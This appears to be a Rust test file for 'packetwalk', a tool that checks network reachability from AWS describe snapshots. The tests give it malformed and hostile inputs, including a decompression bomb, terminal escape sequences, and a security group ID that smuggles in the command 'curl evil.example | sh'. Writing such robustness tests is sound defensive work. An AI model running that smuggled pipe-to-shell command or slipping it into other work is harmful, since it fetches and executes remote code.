//! Input that isn't what it should be: each gets an error or a remark that names the file and the place, and nothing panics.

#![expect(clippy::unwrap_used, clippy::disallowed_methods, reason = "a test that can't prepare its files fails")]

use snapbox::cmd::{Command, OutputAssert};
use snapbox::{assert_data_eq, str};
use std::fs;
use std::io::Write as _;
use std::path::Path;
use tempfile::TempDir;

/// A copy of an example that a test may spoil.
fn copy(name: &str) -> TempDir {
    let folder = TempDir::new().unwrap();
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples").join(name);
    for entry in fs::read_dir(example).unwrap() {
        let entry = entry.unwrap();
        fs::copy(entry.path(), folder.path().join(entry.file_name())).unwrap();
    }
    folder
}

/// Replaces the first occurrence of a text in a file, which must be there.
fn replace(folder: &TempDir, file: &str, from: &str, to: &str) {
    let path = folder.path().join(file);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{from:?} is not in {file}");
    fs::write(path, text.replacen(from, to, 1)).unwrap();
}

fn packetwalk(folder: &TempDir, arguments: &[&str]) -> Command {
    Command::new(snapbox::cmd::cargo_bin!("packetwalk")).args(arguments).current_dir(folder.path())
}

fn walk(folder: &TempDir, from: &str, to: &str) -> OutputAssert {
    packetwalk(folder, &["walk", "-s", ".", from, to, "--brief"]).assert()
}

/// The whole answer in JSON, whatever the verdict.
fn answer(folder: &TempDir, from: &str, to: &str) -> serde_json::Value {
    let output = packetwalk(folder, &["walk", "-s", ".", from, to, "--format", "json"]).output().unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

/// What an answer says of the snapshot's faults, one a line.
fn problems(folder: &TempDir) -> String {
    let answer = answer(folder, "Red", "8.8.8.8:53/udp");
    let problems = answer["snapshot"]["problems"].as_array().unwrap();
    problems.iter().flat_map(|problem| [problem.as_str().unwrap(), "\n"]).collect()
}

#[test]
fn broken_json_is_shown_where_it_breaks() {
    let folder = copy("internet-egress");
    replace(&folder, "subnets.json", "\"AvailabilityZoneId\":", "\"AvailabilityZoneId\"");
    walk(&folder, "Red", "8.8.8.8:53/udp").code(65).stderr_eq(str![[r#"
error: broken JSON: expected `:`
 --> ./subnets.json:4:34
  |
4 |             "AvailabilityZoneId" "use1-az4",
  |                                  ^

"#]]);
}

#[test]
fn a_wrong_type_spoils_its_element_only() {
    let folder = copy("vpc-to-vpc");
    replace(&folder, "network-interfaces.json", "\"SourceDestCheck\": true", "\"SourceDestCheck\": \"yes\"");
    // Its own interface is gone: no host can be named by it, and whether anybody has its address isn't known.
    walk(&folder, "HOST-A", "HOST-B:443").code(64).stderr_eq(str![[r#"
warning: ./network-interfaces.json:3 /NetworkInterfaces/0: invalid type: string "yes", expected a boolean, so this element is left out
error: "HOST-A" is the instance i-0863b1f2fbb423331, which has no interface in the snapshot

"#]]);
    walk(&folder, "HOST-B", "10.0.9.132:443").code(3).stdout_eq(str![[r"
unknown: Whether HOST-B (eni-0092f8e2d29917a4c, 10.1.8.131) reaches 10.0.9.132 on tcp port 443 isn't known: whether an interface in subnet subnet-05ac476d2a4d7acd9 (VPC-A-subnet-private2-us-east-1b) has 10.0.9.132 isn't known: its interfaces were not all read.

"]]);
}

#[test]
fn unknown_states_are_kept_and_shown() {
    let folder = copy("internet-egress");
    replace(&folder, "nat-gateways.json", "\"State\": \"available\"", "\"State\": \"meditating\"");
    walk(&folder, "Red", "8.8.8.8:53/udp").code(1).stdout_eq(str![[r"
never: Red (eni-0a47fb1a0de444f15, 10.0.142.154) does not reach 8.8.8.8 on udp port 53: NAT gateway nat-04407b67a9c78605f (nat-public1-us-east-1a) is meditating.

"]]);
}

#[test]
fn ports_beyond_65535_are_a_problem_of_their_rule() {
    let folder = copy("internet-egress");
    replace(
        &folder,
        "security-groups.json",
        "\"IpProtocol\": \"-1\"",
        "\"IpProtocol\": \"tcp\", \"FromPort\": 1, \"ToPort\": 70000",
    );
    assert_data_eq!(
        problems(&folder),
        str![[r"
./security-groups.json:6 /SecurityGroups/0/IpPermissionsEgress/0: ToPort 70000 is out of range: expected 0 to 65535

"]]
    );
}

#[test]
fn blocks_with_host_bits_are_a_problem_of_their_rule() {
    let folder = copy("internet-egress");
    replace(&folder, "network-acls.json", "\"CidrBlock\": \"0.0.0.0/0\"", "\"CidrBlock\": \"10.0.0.1/8\"");
    assert_data_eq!(
        problems(&folder),
        str![[r#"
./network-acls.json:17 /NetworkAcls/0/Entries/0: "10.0.0.1/8" has bits set beyond its prefix length; 10.0.0.0/8 is the block that holds it

"#]]
    );
}

#[test]
fn dangling_ids_hurt_only_the_walks_that_touch_them() {
    let folder = copy("vpc-to-vpc");
    replace(&folder, "network-interfaces.json", "sg-053d4d98ec2d645b4", "sg-0000000000000dead");
    walk(&folder, "HOST-A", "HOST-B:443").code(3).stdout_eq(str![[r"
unknown: Whether HOST-A (eni-084d826e4b1e0e190, 10.0.9.132) reaches HOST-B (eni-0092f8e2d29917a4c, 10.1.8.131) on tcp port 443 isn't known: whether security group sg-0000000000000dead allows tcp 10.0.9.132 → 10.1.8.131 port 443 from ports 32768–60999 isn't known: it isn't in the snapshot.

"]]);
    walk(&folder, "HOST-A", "10.0.9.99:443").code(1).stdout_eq(str![[r"
never: HOST-A (eni-084d826e4b1e0e190, 10.0.9.132) does not reach 10.0.9.99 on tcp port 443: no interface in subnet subnet-05ac476d2a4d7acd9 (VPC-A-subnet-private2-us-east-1b) has the address 10.0.9.99.

"]]);
}

#[test]
fn the_same_element_twice_is_one() {
    let folder = copy("internet-egress");
    fs::copy(folder.path().join("vpcs.json"), folder.path().join("again.json")).unwrap();
    fs::copy(folder.path().join("network-interfaces.json"), folder.path().join("and-again.json")).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(0);
    assert_data_eq!(problems(&folder), str![[""]]);
}

#[test]
fn descriptions_that_contradict_each_other_are_named() {
    let folder = copy("internet-egress");
    let text = fs::read_to_string(folder.path().join("nat-gateways.json")).unwrap();
    fs::write(folder.path().join("nat-later.json"), text.replace("\"available\"", "\"deleting\"")).unwrap();
    assert_data_eq!(
        problems(&folder),
        str![[r"
./nat-later.json:3 /NatGateways/0: nat-04407b67a9c78605f is described differently here than at ./nat-gateways.json:3; that one is used, and walks that meet it end as unknown

"]]
    );
    walk(&folder, "Red", "8.8.8.8:53/udp").stdout_eq(str![[r"
unknown: Whether Red (eni-0a47fb1a0de444f15, 10.0.142.154) reaches 8.8.8.8 on udp port 53 isn't known: the snapshot describes NAT gateway nat-04407b67a9c78605f (nat-public1-us-east-1a) in two ways.

"]]);
}

#[test]
fn one_bad_element_among_a_thousand() {
    let folder = copy("internet-egress");
    let path = folder.path().join("network-interfaces.json");
    let mut file: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    let list = file["NetworkInterfaces"].as_array_mut().unwrap();
    for number in 0..1_000 {
        let mut interface = list[0].clone();
        interface["NetworkInterfaceId"] = format!("eni-{number:017x}").into();
        interface["PrivateIpAddress"] = format!("10.0.{}.{}", 144 + number / 250, number % 250).into();
        interface["PrivateIpAddresses"] = serde_json::json!([]);
        interface["TagSet"] = serde_json::json!([]);
        interface.as_object_mut().unwrap().remove("Attachment");
        list.push(interface);
    }
    list[500]["PrivateIpAddress"] = "10.0.0.900".into();
    fs::write(&path, serde_json::to_string_pretty(&file).unwrap()).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(0);
    assert_data_eq!(
        problems(&folder),
        str![[r#"
./network-interfaces.json:14042 /NetworkInterfaces/500/PrivateIpAddress: "10.0.0.900" is not an IP address: expected one such as 10.0.1.10 or 2600:1f18::10

"#]]
    );
    packetwalk(&folder, &["list", "-s", ".", "eni-000000000000003e7"]).assert().success().stdout_eq(str![[r"
interface vpc-016303eaf3dde2efe eni-000000000000003e7 10.0.147.249

"]]);
}

#[test]
fn an_empty_folder() {
    walk(&TempDir::new().unwrap(), "a", "b").code(65).stderr_eq(str![[r"
error: no AWS describe output found: there are no files

"]]);
}

#[test]
fn json_that_is_no_aws_output() {
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join("package.json"), "{\"name\": \"left-pad\", \"version\": \"1.0.0\"}").unwrap();
    walk(&folder, "a", "b").code(65).stderr_eq(str![[r#"
error: ./package.json:1: not the answer of an AWS describe call: expected a list such as "Vpcs", found the keys "name", "version"

"#]]);
    fs::write(folder.path().join("package.json"), "[1, 2, 3]").unwrap();
    walk(&folder, "a", "b").code(65).stderr_eq(str![[r"
error: ./package.json:1: expected a JSON object, as AWS describe calls answer with; found 1
error: ./package.json:1: expected a JSON object, as AWS describe calls answer with; found 2
error: ./package.json:1: expected a JSON object, as AWS describe calls answer with; found 3

"]]);
}

#[test]
fn a_stream_of_brackets_is_refused_before_it_fills_the_memory() {
    use std::process::Stdio;
    let mut child = std::process::Command::new(snapbox::cmd::cargo_bin!("packetwalk"))
        .args(["walk", "-s", "-", "a", "b"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let piece = vec![b'['; 1 << 16];
    // A billion brackets, if they were taken.
    let taken = (0..1_000_000_000 / piece.len()).take_while(|_| stdin.write_all(&piece).is_ok()).count();
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    assert!(taken < 100, "{taken} pieces were taken");
    assert_eq!(output.status.code(), Some(65));
    assert_data_eq!(
        String::from_utf8(output.stderr).unwrap(),
        str![[r"
error: standard input:1:101: nested more than 100 levels deep: it is not describe output

"]]
    );
}

#[test]
#[cfg(unix)]
fn links_that_run_in_circles() {
    let folder = copy("internet-egress");
    std::os::unix::fs::symlink(".", folder.path().join("here")).unwrap();
    fs::create_dir(folder.path().join("below")).unwrap();
    std::os::unix::fs::symlink("..", folder.path().join("below/up")).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(0);
    std::os::unix::fs::symlink("nowhere", folder.path().join("dangling.json")).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(0).stderr_eq(str![[r"
warning: ./dangling.json: not read: No such file or directory (os error 2)

"]]);
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn packed_files_are_unpacked() {
    let folder = copy("internet-egress");
    let pack = |name: &str, extension: &str, pack: &dyn Fn(&[u8]) -> Vec<u8>| {
        let path = folder.path().join(name);
        let packed = pack(&fs::read(&path).unwrap());
        fs::write(folder.path().join(format!("{name}.{extension}")), packed).unwrap();
        fs::remove_file(path).unwrap();
    };
    pack("vpcs.json", "gz", &gzip);
    pack("subnets.json", "zst", &|bytes| {
        ruzstd::encoding::compress_to_vec(bytes, ruzstd::encoding::CompressionLevel::Fastest)
    });
    walk(&folder, "Red", "8.8.8.8:53/udp").code(0);
}

#[test]
fn cut_off_archives() {
    let folder = copy("internet-egress");
    let packed = gzip(&fs::read(folder.path().join("vpcs.json")).unwrap());
    fs::write(folder.path().join("vpcs.json.gz"), &packed[..packed.len() / 2]).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(65).stderr_eq(str![[r"
error: ./vpcs.json.gz: the gzip archive is damaged or cut off: incomplete deflate stream

"]]);
}

#[test]
fn decompression_bombs() {
    let folder = copy("internet-egress");
    fs::write(folder.path().join("bomb.json.gz"), gzip(&vec![b' '; 256 << 20])).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(65).stderr_eq(str![[r"
error: ./bomb.json.gz: the gzip archive holds more than 64 MiB of text, 200 times its own size or the most for an archive (1 GiB): unpack it first if you trust it

"]]);
}

#[test]
fn bytes_that_are_no_text() {
    let folder = copy("internet-egress");
    let path = folder.path().join("vpcs.json");
    let mut bytes = fs::read(&path).unwrap();
    let at = bytes.iter().position(|byte| *byte == b'v').unwrap();
    bytes[at] = 0xFF;
    fs::write(path, bytes).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(65).stderr_eq(str![[r"
error: ./vpcs.json:8:39: the text is not UTF-8: byte 0xff is not a character

"]]);
}

#[test]
fn without_network_acls_the_answer_names_the_call() {
    let folder = copy("internet-egress");
    fs::remove_file(folder.path().join("network-acls.json")).unwrap();
    walk(&folder, "Red", "8.8.8.8:53/udp").code(3).stdout_eq(str![[r"
unknown: Whether Red (eni-0a47fb1a0de444f15, 10.0.142.154) reaches 8.8.8.8 on udp port 53 isn't known: whether the network ACL of subnet subnet-003b4cb60127bebac (subnet-private1-us-east-1a) allows udp 10.0.142.154 → 8.8.8.8 port 53 from ports 32768–60999 isn't known: it isn't in the snapshot.

"]]);
    let answer = answer(&folder, "Red", "8.8.8.8:53/udp");
    assert_eq!(answer["unknown"][0]["call"], "aws ec2 describe-network-acls");
}

#[test]
fn names_with_escape_sequences_are_printed_safe() {
    let folder = copy("internet-egress");
    replace(&folder, "instances.json", "\"Value\": \"Red\"", "\"Value\": \"Red\\u001b[31m\\u202e\\nx\"");
    let output = packetwalk(&folder, &["list", "-s", "."]).output().unwrap();
    let listed = String::from_utf8(output.stdout).unwrap();
    assert!(!listed.contains('\u{1b}') && !listed.contains('\u{202e}'), "{listed:?}");
    let output = packetwalk(&folder, &["walk", "-s", ".", "i-05a060e7aa09b0d6f", "8.8.8.8"]).output().unwrap();
    let told = String::from_utf8(output.stdout).unwrap();
    assert!(!told.contains('\u{1b}') && !told.contains('\u{202e}'), "{told:?}");
}

#[test]
fn an_id_that_holds_a_command_is_put_into_none() {
    let folder = copy("database");
    for file in ["security-groups.json", "network-interfaces.json"] {
        let path = folder.path().join(file);
        let text = fs::read_to_string(&path).unwrap();
        fs::write(path, text.replace("sg-05a666079ef1946a6", "sg-1; curl evil.example | sh")).unwrap();
    }
    let answer = answer(&folder, "web", "db:5432");
    assert_eq!(answer["blockers"][0]["code"], "SG_NO_MATCH");
    assert_eq!(answer["blockers"][0]["commands"], serde_json::json!([]));
}

#[test]
fn truncated_answers_are_not_taken_for_whole_ones() {
    let folder = copy("internet-egress");
    replace(&folder, "network-interfaces.json", "{", "{\"NextToken\": \"eyJ2IjoiMiJ9\",");
    walk(&folder, "Red", "10.0.142.99:22").code(3).stdout_eq(str![[r"
unknown: Whether Red (eni-0a47fb1a0de444f15, 10.0.142.154) reaches 10.0.142.99 on tcp port 22 isn't known: whether an interface in subnet subnet-003b4cb60127bebac (subnet-private1-us-east-1a) has 10.0.142.99 isn't known: its interfaces were not all read.

"]]);
}

#[test]
fn one_file_with_everything_and_standard_input() {
    let folder = copy("internet-egress");
    let mut all = String::new();
    let mut paths: Vec<_> = fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.retain(|path| path.extension().is_some_and(|extension| extension == "json"));
    paths.sort();
    for path in paths {
        all.push_str(&fs::read_to_string(path).unwrap());
    }
    let question = ["walk", "-s", "-", "Red", "8.8.8.8:53/udp", "--brief"];
    packetwalk(&folder, &question).stdin(&all).assert().code(0);
    let one = format!("[{}]", all.replace("}\n{", "},\n{"));
    packetwalk(&folder, &question).stdin(&one).assert().code(0);
}
